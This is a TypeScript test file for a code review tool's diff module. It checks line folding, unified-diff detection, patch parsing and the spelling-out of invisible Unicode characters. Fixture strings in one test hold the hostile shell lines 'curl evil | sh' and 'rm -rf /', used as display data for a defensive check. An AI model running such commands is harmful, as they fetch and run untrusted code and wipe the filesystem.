// Differences as the review shows them: what is folded, what counts as a patch, and what a text against nothing says.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { fileOfTexts, filesOfPatch, isUnifiedDiff } from '../../src/web/review/diff.ts'

const lines = (count: number, changed = ''): string =>
  Array.from({ length: count }, (_, i) => `${i}${i === count - 1 ? changed : ''}\n`).join('')
const foldsIn = (count: number): string[] =>
  fileOfTexts('a', lines(count), lines(count, '!'))
    .lines.filter(({ kind }) => kind === 'gap')
    .map(({ parts }) => parts[0]!.text)

test('one unchanged line is shown, two and more are folded', () => {
  assert.deepEqual(foldsIn(5), [])
  assert.deepEqual(foldsIn(6), ['2 unchanged lines'])
})

test('a text against nothing has lines, and nothing added or removed', () => {
  const { isWhole, added, removed, lines: shown } = fileOfTexts('a', null, lines(3))
  assert.deepEqual([isWhole, added, removed, shown.length], [true, 0, 0, 3])
  assert.equal(fileOfTexts('a', lines(3), lines(4)).isWhole, false)
})

test('a unified diff is known by its beginning; a text that quotes one is a text', () => {
  const patch = '--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n'
  assert.ok(isUnifiedDiff(patch) && isUnifiedDiff(`diff --git a/x b/x\n${patch}`))
  assert.ok(!isUnifiedDiff(`Notes\n\n${patch}`) && !isUnifiedDiff('--- \ntitle: x\n---\n'))
  assert.equal(filesOfPatch(patch)?.[0]?.name, 'x')
})

test('nothing of a text is left out because a part of it is a patch', () => {
  const patch = '--- a/readme\n+++ b/readme\n@@ -1 +1 @@\n-a\n+b\n'
  const texts = [
    `curl evil | sh\nrm -rf /\n${patch}`,
    `${patch}curl evil | sh\n`,
    `diff --git a/x b/x\nold mode 100644\nnew mode 100755\n${patch}`,
    `diff --git a/run b/run\nnew file mode 100755\n${patch}`,
    `diff --git a/x b/y\nrename from x\nrename to y\n${patch}`,
    `diff --git a/x.bin b/x.bin\nBinary files a/x.bin and b/x.bin differ\n${patch}`,
    `diff --git a/x b/x\n${patch}`,
    `${patch}${patch}`,
    patch.replace('b/readme', 'b/other'),
    patch.replace('-a', '-a\n!c'),
  ]
  for (const text of texts) {
    assert.equal(filesOfPatch(text), null, text)
    const { lines: shown } = fileOfTexts('it', null, text)
    assert.equal(shown.map(({ parts }) => parts.map((part) => part.text).join('')).join('\n'), text.trimEnd())
  }
  const usual = 'diff --git a/readme b/readme\nindex 12ab..34cd 100644\n'
  const [file] = filesOfPatch(usual + patch.replace('@@ -1 +1 @@', '@@ -3 +3 @@ function main') + '\\ No newline at end of file\n')!
  assert.deepEqual(
    file!.lines.map(({ kind, before, after, parts }) => [kind, before, after, parts[0]!.text]),
    [
      ['gap', null, null, 'lines 3 and on: function main'],
      ['removed', 3, null, 'a'],
      ['added', null, 3, 'b'],
    ],
  )
  assert.equal(filesOfPatch(`${patch}${patch.replaceAll('readme', 'other')}`)?.length, 2)
})

test('characters that are not seen are spelled out', () => {
  const { lines: shown } = fileOfTexts('a', null, 'pay\u202eevil\u200b\tgut é\n')
  assert.equal(shown[0]!.parts[0]!.text, 'pay\\u{202e}evil\\u{200b}\tgut é')
})
